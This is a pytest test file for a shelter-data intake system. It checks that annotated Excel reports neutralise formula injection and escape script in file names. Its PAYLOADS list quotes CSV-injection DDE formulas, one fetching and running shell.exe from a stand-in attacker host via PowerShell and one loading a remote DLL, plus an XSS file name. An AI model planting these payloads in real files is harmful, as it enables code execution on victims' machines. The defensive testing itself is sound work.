"""Workbooks that we write: marks where they belong, a summary first, and nothing in them that a program would run."""

from __future__ import annotations

import io
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pytest
import python_calamine
import xlsxwriter

from marsad.contracts.catalog import load_catalog
from marsad.contracts.spreadsheet import looks_calculated
from marsad.contracts.template import template
from marsad.intake.reading import Hints, open_file
from marsad.intake.reports import describe, page, workbook
from marsad.intake.reports.workbook import annotate
from marsad.quality.findings import Broken, Rule
from marsad.quality.messages import message_rule
from marsad.settings import PROJECT, Settings

CATALOG = load_catalog(Settings(Path("unused"), None, (PROJECT / "schemas" / "contracts",), ()))
STAYS = CATALOG.contract("ngo/shelter_stays")
HEADER = ["N° du séjour", "Code bénéficiaire", "Centre", "Date d'entrée", "Date d'envoi", "Remarque libre"]
TEXT = {"fr": "Faux. Écrivez 1.", "ar": "خطأ. اكتبوا 1.", "en": "Wrong. Write 1."}
# The payloads of PayloadsAllTheThings "CSV Injection", and each beginning that a spreadsheet program acts on.
PAYLOADS = [
    'DDE ("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    '=HYPERLINK("http://example.org","x")',
    "+212612345678",
    "-5",
    "\t=1+1",
    "＝1+1",  # noqa: RUF001
]
SENT = [[f"S{n}", "B1", payload, "2025-01-02", "2025-02-01", payload] for n, payload in enumerate(PAYLOADS)]


def broken(rule: str, column: str | None, *rows: int, severity: str = "critical") -> Broken:
    return Broken(Rule(rule, severity, "row", column, TEXT), np.array(rows, np.int64))


def report(name: str, *findings: Broken, rows: int = len(SENT), **more: Any) -> dict[str, Any]:
    about = {"feed": STAYS.feed, "provider": "=1+1", "delivery_id": "d", "sha256": "a", "period": None}
    counts = {
        "rows_read": rows,
        "rows_accepted": 0,
        "rows_quarantined": rows,
        "rows_unchanged": 0,
        "warnings": 0,
        "confirmed": 0,
    }
    told = {"file_name": name, "status": "refused", "findings": describe(STAYS, findings)}
    return {**about, **counts, **told, **more}


def as_csv(folder: Path, rows: list[list[str]] = SENT) -> Path:
    def quoted(row: list[str]) -> str:
        return ";".join('"' + cell.replace('"', '""') + '"' for cell in row)

    path = folder / "=cmd.csv"
    path.write_text("Relevé\n" + "\n".join(map(quoted, [HEADER, *rows])), "utf-8")
    return path


def as_json(folder: Path) -> Path:
    path = folder / "stays.json"
    path.write_text(json.dumps([dict(zip(HEADER, row, strict=True)) for row in SENT]), "utf-8")
    return path


def as_xlsx(folder: Path) -> Path:
    path = folder / "stays.xlsx"
    with xlsxwriter.Workbook(path, {"strings_to_formulas": False}) as book:
        sheet = book.add_worksheet("Hébergement")
        book.add_worksheet("=Autre").write_string(0, 0, "=cmd|'/C calc'!A0")
        book.define_name("Evil", "=cmd|'/C calc'!A0")
        sheet.write_string(0, 0, "Relevé")
        for row, cells in enumerate([HEADER, *SENT], 1):
            for column, text in enumerate(cells):
                sheet.write_string(row, column, text)
        sheet.write_formula(2, 5, "=1+1", value="=2+2")
        sheet.write_url(3, 5, "http://example.org/", string="=lien")
    return path


KINDS = {"csv": as_csv, "json": as_json, "xlsx": as_xlsx}


def sheets(content: bytes) -> dict[str, list[list[Any]]]:
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: book.get_sheet_by_name(name).to_python(skip_empty_area=False) for name in book.sheet_names}


def assert_harmless(content: bytes) -> int:
    """No formula, no link to elsewhere, and every text that looks like one is marked as text; how many there are."""
    with zipfile.ZipFile(io.BytesIO(content)) as pack:
        parts = {name: pack.read(name).decode("utf-8", "replace") for name in pack.namelist()}
    cells = "".join(text for name, text in parts.items() if name.startswith("xl/worksheets/sheet"))
    assert not re.search(r"<f[ >/]", cells)
    assert not any("externalLink" in name or "vbaProject" in name for name in parts)
    assert "cmd|" not in parts["xl/workbook.xml"]
    assert not re.search(r'TargetMode="External"', "".join(parts.values()))
    marked = 0
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and looks_calculated(cell.value):
                assert cell.quotePrefix, cell.coordinate
                marked += 1
    return marked


@pytest.mark.parametrize("language", ["fr", "ar"])
@pytest.mark.parametrize("kind", KINDS)
def test_payloads_come_back_as_they_were_and_as_text(tmp_path: Path, kind: str, language: str) -> None:
    path = KINDS[kind](tmp_path)
    findings = broken("shelter.known", "shelter", *range(3, 8)), broken("row.long", None, 4)
    content = annotate(path, STAYS, report(path.name, *findings), language)

    dangerous = sum(map(looks_calculated, PAYLOADS))
    assert assert_harmless(content) >= 2 * dangerous - 2 * (kind == "xlsx")
    assert ("=Autre" in sheets(content)) == (kind == "xlsx")  # the sender's own workbook, not a copy of its rows
    data = list(sheets(content).values())[1]
    seen = [row[2] for row in data if str(row[0]).startswith("S")]
    assert seen == PAYLOADS


@pytest.mark.parametrize("name", ["=cmd|'/C calc'!A0.csv", "+1.csv", "@x.csv"])
def test_a_file_name_is_text_too(tmp_path: Path, name: str) -> None:
    path = tmp_path / name.replace("/", "_")
    path.write_bytes(b"")
    assert assert_harmless(annotate(path, STAYS, report(name), "fr")) >= 1


def test_a_template_is_text_only() -> None:
    columns = [
        replace(column, headers=dict.fromkeys(("fr", "ar", "en"), f"={column.name}")) for column in STAYS.columns
    ]
    odd = replace(STAYS, columns=tuple(columns), sheets={"fr": "=1+1"})
    assert assert_harmless(template(odd, CATALOG.codelists, "fr")) >= 2 * len(columns)
    for feed in CATALOG.contracts.values():
        assert_harmless(template(feed, CATALOG.codelists, "ar"))


def test_pages_run_nothing_that_was_sent() -> None:
    html = page(report("<script>alert(1)</script>.csv"), STAYS, [], "fr")
    assert "<script" not in html


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_is_put_into_temporary_files(tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    path = KINDS[kind](tmp_path)

    def refuse(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("a temporary file would hold what was sent, in clear")

    for name in ("NamedTemporaryFile", "TemporaryFile", "mkstemp", "mkdtemp"):
        monkeypatch.setattr(f"tempfile.{name}", refuse)
    monkeypatch.setattr("openpyxl.worksheet._writer.NamedTemporaryFile", refuse)
    content = annotate(path, STAYS, report(path.name, broken("row.long", None, 4)), "fr")
    assert ("=Autre" in sheets(content)) == (kind == "xlsx")


def test_marks_are_on_their_cells_where_the_table_begins_further_right(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    for number, row in enumerate([HEADER, ["S1", "B1", "?", "2025-01-02", "2025-02-01", "x"]], 4):
        for place, text in enumerate(row, 3):
            book.worksheets[0].cell(number, place).value = text
    book.save(tmp_path / "b.xlsx")
    content = annotate(
        tmp_path / "b.xlsx", STAYS, report("b.xlsx", broken("shelter.known", "shelter", 5), rows=1), "fr"
    )
    data = openpyxl.load_workbook(io.BytesIO(content)).worksheets[1]
    assert [c.coordinate for row in data.iter_rows() for c in row if c.comment] == ["E5"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_marks_and_notes_are_on_the_cells_that_are_meant(tmp_path: Path, kind: str) -> None:
    path = KINDS[kind](tmp_path)
    findings = broken("shelter.known", "shelter", 4, 5), broken("ended_on.x", "started_on", 4, severity="warning")
    book = openpyxl.load_workbook(io.BytesIO(annotate(path, STAYS, report(path.name, *findings), "fr")))

    summary, data = book.worksheets[:2]
    assert [(cell.coordinate, cell.comment.text) for row in data.iter_rows() for cell in row if cell.comment] == [
        ("C4", "À corriger – Faux. Écrivez 1."),
        ("D4", "À confirmer – Faux. Écrivez 1."),
        ("C5", "À corriger – Faux. Écrivez 1."),
    ]
    assert data["C4"].fill.start_color.rgb[-6:] == "F8C9C9"
    assert data["A4"].value == "S1"
    told = [[cell.value for cell in row] for row in summary.iter_rows()]
    assert told[0][0] == "Fichier refusé"
    assert ["À corriger", "Centre", "C4-C5", "Faux. Écrivez 1."] in told


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_titles_that_were_not_recognised_are_marked(tmp_path: Path, kind: str) -> None:
    titles = ["N° du séjour", "Logis", "Date d'entrée", "Date de sortie", "Xyz"]
    rows = [["Relevé"], titles, *([f"S{n}", "Al Amal", "2025-01-02", "2025-02-01", "a"] for n in range(3))]
    path = tmp_path / f"t.{kind}"
    if kind == "xlsx":
        book = openpyxl.Workbook()
        for row in rows:
            book.worksheets[0].append(row)
        book.save(path)
    else:
        path.write_text("".join(";".join(row) + "\n" for row in rows), "utf-8")
    missing = Broken(message_rule("file.columns_unread"), params={"columns": "Centre", "letters": "B, E"})
    book = openpyxl.load_workbook(io.BytesIO(annotate(path, STAYS, report(path.name, missing, rows=0), "fr")))
    marked = {c.coordinate: c.fill.start_color.rgb[-6:] for row in book.worksheets[1] for c in row if c.comment}
    assert marked == {"B2": "F8C9C9", "E2": "F8C9C9"}


def test_arabic_runs_from_right_to_left(tmp_path: Path) -> None:
    for path in (as_csv(tmp_path), as_xlsx(tmp_path)):
        book = openpyxl.load_workbook(io.BytesIO(annotate(path, STAYS, report(path.name), "ar")))
        assert book.worksheets[0].title == "ملخص"
        assert book.worksheets[0].sheet_view.rightToLeft


@pytest.mark.parametrize("kind", KINDS)
def test_the_workbook_can_be_sent_back_as_it_is(tmp_path: Path, kind: str) -> None:
    path = KINDS[kind](tmp_path)
    content = annotate(path, STAYS, report(path.name, broken("row.long", None, 4)), "fr")
    again = tmp_path / "again.xlsx"
    again.write_bytes(content)
    before, after = (open_file(file, hints=Hints.of(STAYS)).tables[0] for file in (path, again))
    assert after.header == before.header
    assert [b.cells.to_pylist() for b in after.blocks()] == [b.cells.to_pylist() for b in before.blocks()]


def test_of_a_large_file_only_rows_with_findings_are_shown(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "WHOLE_CELLS", 10)
    path = as_csv(tmp_path)
    content = annotate(path, STAYS, report(path.name, broken("shelter.known", "shelter", 5, 9)), "fr")
    shown = sheets(content)
    assert [row[0] for row in list(shown.values())[1]] == ["N° du séjour", "S2", "S6"]
    first = "\n".join(str(row[0]) for row in shown["Résumé"])
    assert "seules les 2 lignes à revoir" in first
    assert any(row[2] == "C2, C3" for row in shown["Résumé"] if len(row) > 2)


def test_a_file_that_cannot_be_read_has_a_summary(tmp_path: Path) -> None:
    path = tmp_path / "broken.xlsx"
    path.write_bytes(as_xlsx(tmp_path).read_bytes()[:900])
    assert sheets(annotate(path, STAYS, report(path.name, rows=0), "en"))["Summary"][0][0] == "File refused"


@pytest.mark.parametrize(
    "part",
    [
        "<mergeCells><mergeCell ref='A5:XFD60'/></mergeCells>",
        "<hyperlinks><hyperlink ref='&#65;5:XFD60' location='A1'/></hyperlinks>",
    ],
)
def test_a_few_bytes_that_name_very_many_cells_are_not_loaded(
    tmp_path: Path, part: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    small, path = as_xlsx(tmp_path), tmp_path / "wide.xlsx"
    with zipfile.ZipFile(small) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name).replace(b"</sheetData>", b"</sheetData>" + part.encode()))

    def refuse(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("openpyxl makes an object of every cell")

    monkeypatch.setattr("marsad.intake.reports.own.openpyxl.load_workbook", refuse)
    content = annotate(path, STAYS, report(path.name), "fr")
    monkeypatch.undo()
    assert [row[0] for row in list(sheets(content).values())[1]][-1] == f"S{len(SENT) - 1}"
